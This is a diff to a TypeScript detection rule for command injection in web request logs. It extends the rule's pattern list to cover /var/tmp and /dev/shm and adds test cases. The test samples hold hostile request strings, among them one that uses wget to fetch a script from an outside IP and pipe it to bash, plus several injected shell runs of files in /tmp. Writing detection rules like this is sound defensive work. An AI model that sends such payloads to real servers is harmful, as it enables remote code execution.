@@ -1,5 +1,6 @@
 import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
+import { fewest } from '../words.ts'
 
 export default defineRule({
   id: 'cmdi/run-file',
@@ -20,7 +21,7 @@ export default defineRule({
 
   where: ['path', 'query', 'referrer', 'agent', 'user'],
   needs: [
-    [
+    fewest([
       ...[';', '; ', '&& ', '&&', '| ', '|', '& '].flatMap((mark) => [
         `${mark}sh `,
         `${mark}sh+`,
@@ -31,13 +32,15 @@ export default defineRule({
         `${mark}python`,
         `${mark}./`,
         `${mark}/tmp/`,
+        `${mark}/var/tmp/`,
+        `${mark}/dev/shm/`,
         `${mark}/bin/sh`,
         `${mark}/bin/bash`,
         `${mark}busybox sh`,
       ]),
       '|sh',
       '| sh',
-    ],
+    ]),
   ],
   match:
     /(?:[;|]|&&|&\s)\s?(?:(?:\/bin\/|busybox\s)?(?:ba|da|[azk])?sh[\s+]+(?:-\w+\s+)?[\w./-]*[\w*]|(?:perl|python\d?)\s+[\w./-]{0,80}\w\.(?:pl|py)\b|\.\/[\w.-]+|\/(?:tmp|var\/tmp|dev\/shm)\/[\w./-]+)|\|\s?(?:\/bin\/)?(?:ba|da|a)?sh(?:$|[\s"'&);`|])/i,
@@ -71,6 +74,11 @@ export default defineRule({
     %26%20sh%2B`,
     ),
     'GET /a?c=$(wget${IFS}-qO-${IFS}http://203.0.113.9/i|+bash) HTTP/1.1',
+    ...each(
+      'GET /a.cgi?x=1{} HTTP/1.1',
+      `;+/tmp/a ;+/bin/sh+a |+/tmp/a |+/bin/sh+a |/tmp/a |/bin/sh+a &+/tmp/a &+/bin/sh+a &&/tmp/a
+    &&/bin/sh+a &&./a &&bash+a ;/var/tmp/a ;/dev/shm/a ;bash+a ;/bin/sh+a ;busybox+sh+a`,
+    ),
   ],
   misses: [
     'GET /find?q=fish;shop=1 HTTP/1.1',
@@ -78,5 +86,6 @@ export default defineRule({
     'GET /list?cols=name|shape|size HTTP/1.1',
     { request: 'GET / HTTP/1.1', agent: 'Mozilla/5.0 (compatible; ShopBot/1.0; Bash)' },
     { message: 'upstream timed out, request: "GET /cgi-bin/a.cgi?x=;sh+/tmp/x.sh HTTP/1.1"' },
+    'GET /cgi-bin/a.cgi?x=;perl+a.pls HTTP/1.1',
   ],
 })
